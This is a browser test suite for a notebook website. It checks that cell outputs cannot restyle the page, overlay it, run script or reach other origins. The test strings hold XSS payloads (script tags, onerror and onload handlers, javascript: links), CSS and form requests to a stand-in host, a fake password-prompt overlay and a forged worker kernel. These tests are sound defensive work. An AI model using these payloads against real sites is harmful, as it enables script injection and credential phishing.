/**
 * Hostile outputs, written as an attacker would, run on the built site in Chromium: nothing a cell outputs may
 * restyle, cover or take clicks from anything outside its own output box, run script, or load from another origin.
 * Cells build their markup with the `document` every cell has (linkedom's, for Plot), exactly as the attacks in the
 * issue did; a forged kernel (its bundle swapped for an attacker's) sends what no cell could.
 */
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { framesIn, newPage, outputText, setCellCode, waitForState } from "../support/notebook-page.ts";
import { NOTEBOOK, startFixture } from "./fixture.ts";

let site: Awaited<ReturnType<typeof startFixture>>;

beforeAll(async () => {
  site = await startFixture();
});
afterAll(() => site?.close());

/** The fixture's notebook page with every CSP violation and every dialog recorded. */
async function open() {
  const { page, errors, context } = await newPage(site.browser);
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => (dialogs.push(dialog.message()), void dialog.dismiss()));
  await page.addInitScript(() => {
    (window as unknown as { violations: string[] }).violations = [];
    document.addEventListener("securitypolicyviolation", (event) =>
      (window as unknown as { violations: string[] }).violations.push(
        `${event.effectiveDirective} ${event.blockedURI}`,
      ),
    );
  });
  await page.goto(site.server.url + NOTEBOOK);
  return { page, errors, dialogs, context };
}

/** Run `code` (which ends in the hostile element) in the show-values cell and wait for it. */
async function attack(page: Page, code: string, state = "ok") {
  await setCellCode(page, "show-values", code);
  await page.keyboard.press("Control+Enter");
  await waitForState(page, "show-values", state);
}

const element = (html: string) =>
  `const box = document.createElement("div");\nbox.innerHTML = ${JSON.stringify(html)};\nbox`;

/** What the page looks like from outside the output: the title's visibility, the background, what is on top. */
function pageLooks(page: Page) {
  return page.evaluate(() => {
    const h1 = document.querySelector("h1")!;
    h1.scrollIntoView({ block: "center" });
    const rect = h1.getBoundingClientRect();
    const atTitle = document.elementFromPoint(rect.left + 5, rect.top + rect.height / 2);
    return {
      h1: getComputedStyle(h1).visibility,
      h1Color: getComputedStyle(h1).color,
      background: getComputedStyle(document.body).backgroundColor,
      topAtTitle: atTitle === h1 || h1.contains(atTitle),
      topAtCenter: document.elementFromPoint(innerWidth / 2, innerHeight / 2)?.closest("[data-cell-output]") ?? null,
    };
  });
}

describe("outputs cannot restyle the page", () => {
  it("a <style> element, in HTML or in SVG, styles nothing", async () => {
    const { page, errors } = await open();
    const before = await pageLooks(page);
    await attack(
      page,
      element(
        "<style>h1 { visibility: hidden !important } body, html { background: red !important }</style>" +
          '<svg width="10" height="10"><style>h1 { color: lime !important }</style><rect width="10" height="10"></rect></svg>' +
          "<p>styled?</p>",
      ),
    );
    expect(await pageLooks(page)).toEqual(before);
    expect(await page.locator("[data-cell-output] style").count()).toBe(0);
    expect(await outputText(page, "show-values")).toContain("styled?");
    expect(errors).toEqual([]);
  });

  it("CSS @import and url() load nothing", async () => {
    const { page } = await open();
    const requests: string[] = [];
    page.on("request", (request) => requests.push(request.url()));
    await attack(
      page,
      element(
        '<style>@import url("http://127.0.0.2:9/evil.css");</style>' +
          '<div style="background-image: url(http://127.0.0.2:9/track.png); color: blue">tracked?</div>' +
          '<svg><rect fill="url(http://127.0.0.2:9/paint.svg#p)" width="5" height="5"></rect></svg>',
      ),
    );
    const box = page.locator("#show-values [data-cell-output] .out-figure > div > div");
    expect(await box.getAttribute("style")).toBe("color: blue;"); // the colour stays, the url() goes
    expect(await page.locator("#show-values [data-cell-output] rect").getAttribute("fill")).toBeNull();
    await page.waitForTimeout(300);
    expect(requests.filter((url) => url.includes("127.0.0.2"))).toEqual([]);
  });

  it("a never-ending CSS animation does not animate", async () => {
    const { page } = await open();
    await attack(
      page,
      element('<div id="spin" style="animation: sl-spin 1s linear infinite; transition: all 10s">spinning?</div>'),
    );
    const spin = page.locator("#show-values [data-cell-output] .out-figure > div > div");
    expect(await spin.evaluate((div) => div.getAnimations().length)).toBe(0);
    expect(await spin.getAttribute("style")).toBeNull();
  });
});

describe("outputs cannot cover the page or take its clicks", () => {
  it("position: fixed with a huge z-index stays inside its box", async () => {
    const { page } = await open();
    const before = await pageLooks(page);
    await attack(
      page,
      element(
        '<div style="position:fixed; left:0; top:0; width:100vw; height:100vh; z-index:2147483647; background:white">' +
          "Session expired: enter your password…</div>",
      ),
    );
    await page.locator("h1").scrollIntoViewIfNeeded();
    const after = await pageLooks(page);
    expect(after.topAtTitle).toBe(true); // the page's title is still what a click there reaches
    expect(after.h1).toBe(before.h1);
    // The overlay is clipped to its own output box.
    const [overlay] = await page.evaluate(() => {
      const output = document.querySelector("#show-values [data-cell-output] .out-figure")!;
      const fixed = output.querySelector("div div")!;
      const clip = (r: DOMRect) => [r.left, r.top, r.right, r.bottom].map(Math.round);
      return [clip(fixed.getBoundingClientRect()), clip(output.getBoundingClientRect())];
    });
    expect(overlay[2]! - overlay[0]!).toBeGreaterThan(0);
    const visible = await page.evaluate(() => {
      const output = document.querySelector("#show-values [data-cell-output] .out-figure")!;
      return getComputedStyle(output).contain;
    });
    expect(visible).toContain("paint");
    // A click on the sidebar (outside the box) reaches the sidebar.
    const link = page.locator("#starlight__sidebar a").first();
    await link.scrollIntoViewIfNeeded();
    const target = await link.evaluate((a) => {
      const r = a.getBoundingClientRect();
      return document.elementFromPoint(r.left + 2, r.top + r.height / 2)?.closest("a") === a;
    });
    expect(target).toBe(true);
  });

  it("position: sticky stays inside its box", async () => {
    const { page } = await open();
    await attack(page, element('<div style="position:sticky; top:0; z-index:99999; height:40px">sticky</div>'));
    await page.evaluate(() => scrollBy(0, 2000));
    const onTop = await page.evaluate(
      () =>
        document
          .elementFromPoint(innerWidth / 2, 10)
          ?.closest("[data-cell-output]")
          ?.closest("[data-cell]")?.id,
    );
    expect(onTop).not.toBe("show-values");
  });

  it("popovers, dialogs and forms are not kept (the top layer escapes any box)", async () => {
    const { page } = await open();
    await attack(
      page,
      element(
        '<button popovertarget="p" commandfor="d" command="show-modal">Continue</button>' +
          '<div id="p" popover>Session expired</div><dialog id="d" open>Enter your password</dialog>' +
          '<form action="http://127.0.0.2:9/"><input type="password" name="pw"></form>',
      ),
    );
    const output = page.locator("#show-values [data-cell-output]");
    expect(await output.locator("button, dialog, form, input, [popover]").count()).toBe(0);
    expect(await page.evaluate(() => document.querySelectorAll(":popover-open, dialog[open]").length)).toBe(0);
  });
});

describe("outputs cannot run script or reach out", () => {
  it("<script>, on* attributes and javascript: URLs are removed, and would be blocked anyway", async () => {
    const { page, dialogs, errors } = await open();
    await attack(
      page,
      element(
        '<script>window.pwned = 1</script><img src="x" onerror="window.pwned = 2"><svg onload="window.pwned = 3"></svg>' +
          '<a href="javascript:window.pwned = 4" id="lure">click me</a><p onclick="window.pwned = 5">p</p>' +
          '<svg width="80" height="20"><a href="javascript:window.pwned=6"><text y="15">svg link</text></a></svg>',
      ),
    );
    const output = page.locator("#show-values [data-cell-output]");
    expect(await output.locator("script, img, [onerror], [onload], [onclick], [href^='javascript']").count()).toBe(0);
    await output.getByText("click me").click();
    expect(await output.locator("a").evaluateAll((links) => links.map((a) => a.getAttribute("href")))).toEqual([
      null,
      null,
    ]);
    expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
    expect(dialogs).toEqual([]);
    expect(errors).toEqual([]);

    // The page's policy is the second wall: script injected past the sanitizer is refused by the browser, visibly.
    // (A probe script from the site itself tries `eval`: Playwright's own evaluate is exempt from the policy.)
    await page.route("**/csp-probe.js", (route) =>
      route.fulfill({
        contentType: "text/javascript",
        body: "try { (0, eval)('window.pwned = 9'); window.evaluated = 'yes'; } catch (error) { window.evaluated = error.name; }",
      }),
    );
    const blocked = await page.evaluate(async () => {
      const box = document.createElement("div");
      box.innerHTML = '<img src="x" onerror="window.pwned = 7">';
      document.body.append(box);
      const inline = document.createElement("script");
      inline.textContent = "window.pwned = 8";
      document.body.append(inline);
      const probe = document.createElement("script");
      probe.src = "/csp-probe.js";
      const loaded = new Promise((resolve) => probe.addEventListener("load", resolve));
      document.body.append(probe);
      await loaded;
      await new Promise((resolve) => setTimeout(resolve, 200));
      const w = window as unknown as { pwned?: number; evaluated?: string; violations: string[] };
      return { pwned: w.pwned, evaluated: w.evaluated, violations: w.violations };
    });
    expect(blocked.pwned).toBeUndefined();
    expect(blocked.evaluated).toBe("EvalError");
    expect(blocked.violations).toEqual(expect.arrayContaining(["script-src-attr inline", "script-src-elem inline"]));
  });

  it("<foreignObject> and <use> are dropped; ids are the output's own and its references follow them", async () => {
    const { page } = await open();
    await attack(
      page,
      element(
        '<svg width="40" height="20"><foreignObject width="40" height="20"><div>foreign</div></foreignObject>' +
          '<use href="data:image/svg+xml;base64,PHN2ZyBpZD0ieCIgeG1sbnM9Imh0dHA6Ly93d3cudzMub3JnLzIwMDAvc3ZnIj48cmVjdCB3aWR0aD0iOTkiIGhlaWdodD0iOTkiLz48L3N2Zz4=#x"></use>' +
          '<use href="#starlight__sidebar"></use>' +
          '<defs><clipPath id="clip"><rect width="5" height="5"></rect></clipPath></defs>' +
          '<rect id="show-table" width="10" height="10" clip-path="url(#clip)"></rect>' +
          '<rect width="10" height="10" clip-path="url(#page-clip)"></rect></svg>',
      ),
    );
    const svg = page.locator("#show-values [data-cell-output] svg");
    expect(await svg.locator("foreignObject, use").count()).toBe(0);
    const [own, foreign] = await svg.locator("rect[width='10']").all();
    const clipId = await svg.locator("clipPath").getAttribute("id");
    expect(clipId).toMatch(/^o\d+-clip$/);
    expect(await own!.getAttribute("clip-path")).toBe(`url(#${clipId})`);
    expect(await foreign!.getAttribute("clip-path")).toBe("none");
    // The id of another cell was not taken over: the page still finds the cell.
    expect(await own!.getAttribute("id")).toMatch(/^o\d+-show-table$/);
    expect(await page.evaluate(() => document.getElementById("show-table")?.dataset.cell)).toBe("");
  });

  it("a cell may fetch the course's own files, and gets a clear error for any other origin", async () => {
    const { page } = await open();
    await attack(
      page,
      `const own = await fetch("../../favicon.svg");
const text = await own.text();
let other = "";
try { await fetch("http://127.0.0.2:9/data.csv"); } catch (error) { other = (error as Error).message; }
let post = "";
try { await fetch("/", { method: "POST" }); } catch (error) { post = (error as Error).message; }
[own.status, text.includes("<svg"), other, post].join("\\n")`,
    );
    const lines = (await outputText(page, "show-values")).replace(/^"|"$/g, "").split("\\n");
    expect(lines[0]).toBe("200");
    expect(lines[1]).toBe("true");
    expect(lines[2]).toBe(
      `fetch: a cell may fetch only files of this course (${site.server.url.replace(/\/$/, "")}/); http://127.0.0.2:9/data.csv is on another origin`,
    );
    expect(lines[3]).toBe("fetch: a cell may only read files (GET or HEAD); received POST");
  });
});

/**
 * A kernel whose bundle was swapped for an attacker's: it speaks the protocol, but sends whatever the running cell's
 * source (a JSON list of messages) says — outputs no cell could make, a "done" before the end, messages for other runs.
 * `"$run"` stands for the run's id, `"$next"` for the next one's; `{ "big": n }` is an output of n elements.
 */
const FORGED_KERNEL = `self.onmessage = (event) => {
  if (!event.data || event.data.type !== "connect") return;
  const port = event.data.port;
  port.onmessage = async ({ data }) => {
    if (!data || data.type !== "run") return;
    const fill = (value) => JSON.parse(JSON.stringify(value), (key, v) => v === "$run" ? data.runId : v === "$next" ? data.runId + 1 : v);
    for (const step of JSON.parse(data.source)) {
      if (step.wait) await new Promise((resolve) => setTimeout(resolve, step.wait));
      else if (step.big) port.postMessage({ type: "output", runId: data.runId, cellId: data.cellId, output: { kind: "figure", html: "<b></b>".repeat(step.big) } });
      else port.postMessage(fill({ cellId: data.cellId, ...step }));
    }
  };
  port.start();
  port.postMessage({ type: "ready" });
};`;

async function openForged() {
  const opened = await open();
  await opened.page.route("**/_astro/browser-worker-*.js", (route) =>
    route.fulfill({ contentType: "text/javascript", body: FORGED_KERNEL }),
  );
  return opened;
}

const output = (runId: string, value: Record<string, unknown>) => ({ type: "output", runId, output: value });

describe("a forged kernel", () => {
  it("a million-node output is refused with a note, and the page keeps drawing", async () => {
    const { page } = await openForged();
    await attack(page, JSON.stringify([{ big: 1_000_000 }, { type: "done", runId: "$run", status: "ok" }]));
    expect(await outputText(page, "show-values")).toContain("This output was not shown: it has 7.0 MB of markup");
    expect(await page.locator("#show-values [data-cell-output] b").count()).toBe(0);
    expect(await framesIn(page, 300)).toBeGreaterThan(5);
  });

  it("outputs that are not the protocol's become a note; the run goes on", async () => {
    const { page, errors } = await openForged();
    await attack(
      page,
      JSON.stringify([
        output("$run", { kind: "html", html: "<h1>raw</h1>" }),
        output("$run", { kind: "error", name: "E", message: "m", frames: "not a list" }),
        output("$run", { kind: "widget", spec: { type: "slider", key: "k", label: "x", min: 1, max: 0, value: 0 } }),
        output("$run", { kind: "stream", level: "log", html: "still here" }),
        { type: "done", runId: "$run", status: "ok" },
      ]),
    );
    const text = await outputText(page, "show-values");
    expect(text.match(/The kernel sent an output the page cannot show/g)).toHaveLength(3);
    expect(text).toContain('(kind "html")');
    expect(text).toContain("still here");
    expect(await page.locator("#show-values [data-cell-output] h1").count()).toBe(0);
    expect(errors).toEqual([]);
  });

  it('a forged "done" ends only the run it names, and nothing after it is shown', async () => {
    const { page } = await openForged();
    await attack(
      page,
      JSON.stringify([
        { type: "done", runId: "$next", status: "ok" }, // for a run that has not started: dropped
        output("$run", { kind: "stream", level: "log", html: "before done" }),
        { type: "done", runId: "$run", status: "ok" },
        { wait: 50 },
        output("$run", { kind: "stream", level: "log", html: "after done" }),
        { type: "done", runId: "$run", status: "bogus" },
      ]),
    );
    await page.waitForTimeout(200);
    const text = await outputText(page, "show-values");
    expect(text).toContain("before done");
    expect(text).not.toContain("after done");
    expect(await page.locator("#show-values").getAttribute("data-state")).toBe("ok");
  });

  it("a kernel that never says done is stopped by the time limit, not waited on", async () => {
    const { page } = await openForged();
    await setCellCode(page, "show-values", JSON.stringify([output("$run", { kind: "note", text: "busy" })]));
    await page.keyboard.press("Control+Enter");
    await waitForState(page, "show-values", "stopped", 20_000);
    expect(await outputText(page, "show-values")).toContain("Stopped after 10 s");
  });
});
